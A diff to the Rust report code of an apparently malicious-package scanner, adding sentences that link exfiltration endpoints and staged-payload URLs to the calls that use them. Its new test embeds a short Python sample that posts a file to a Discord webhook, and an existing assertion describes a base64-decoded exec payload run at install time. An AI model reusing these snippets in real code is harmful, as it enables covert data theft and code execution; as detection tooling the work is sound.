@@ -1,7 +1,7 @@
 //! The English sentences of a per-file report. Every sentence is built from findings and cites
 //! `file:line`; nothing is boilerplate that would read the same for any file.
 
-use wheelhound_analysis::{Category, FileAnalysis, FileRole, Finding};
+use wheelhound_analysis::{Category, ExecContext, FileAnalysis, FileRole, Finding};
 use wheelhound_scoring::{Contribution, FileScores, level};
 
 use crate::{Evidence, FileReport, ScoreMove};
@@ -266,6 +266,41 @@ fn flows(analysis: &FileAnalysis, findings: &[&Finding]) -> String {
             payload.context.phrase()
         ));
     }
+    // An endpoint beside the call that contacts it, and an executable's URL beside the process
+    // that starts it, are the paths of exfiltration and of staged payloads.
+    let strongest = |keep: &dyn Fn(&Finding) -> bool| {
+        findings
+            .iter()
+            .filter(|f| keep(f) && f.context != ExecContext::TestOrDocs)
+            .max_by(|a, b| a.severity.total_cmp(&b.severity))
+            .copied()
+    };
+    let endpoint = strongest(&|f| f.rule == "WH160" && f.severity >= 0.3);
+    if let Some(endpoint) = endpoint {
+        if endpoint.message.contains("executable") {
+            if let Some(run) = strongest(&|f| f.rule == "WH120") {
+                items.push(format!(
+                    "staged payload: {} ({}:{}) → process start ({}:{}) {}",
+                    endpoint.message,
+                    endpoint.path,
+                    endpoint.line,
+                    run.path,
+                    run.line,
+                    run.context.phrase()
+                ));
+            }
+        } else if let Some(call) = strongest(&|f| f.rule == "WH130") {
+            items.push(format!(
+                "network call ({}:{}) {} → {} ({}:{})",
+                call.path,
+                call.line,
+                call.context.phrase(),
+                endpoint.message,
+                endpoint.path,
+                endpoint.line
+            ));
+        }
+    }
     if items.is_empty() {
         let has_source = findings.iter().any(|f| f.category == Category::Source);
         let has_sink = findings.iter().any(|f| f.category == Category::Sink);
@@ -448,6 +483,20 @@ mod tests {
         assert!(r.flows.starts_with("executed payload: exec runs code decoded by base64.b64decode (demo-1/setup.py:2) at install time → payload analysed as demo-1/setup.py#layer2"), "{}", r.flows);
         let clean = report("demo-1/setup.py", "from setuptools import setup\nsetup()\n");
         assert!(clean.flows.starts_with("No flow"), "{}", clean.flows);
+    }
+
+    #[test]
+    fn flows_name_the_endpoint_data_goes_to() {
+        let r = report(
+            "demo-1/shots/loop.py",
+            "import requests\nHOOK = 'https://discord.com/api/webhooks/1056642764701446254/LroWAHbhlld1gTQeVSSe2tNtzzmE3'\ndef go(shot):\n    requests.post(HOOK, files={'f': shot})\n",
+        );
+        assert!(
+            r.flows.contains("network call (demo-1/shots/loop.py:4)"),
+            "{}",
+            r.flows
+        );
+        assert!(r.flows.contains("Discord webhook"), "{}", r.flows);
     }
 
     #[test]
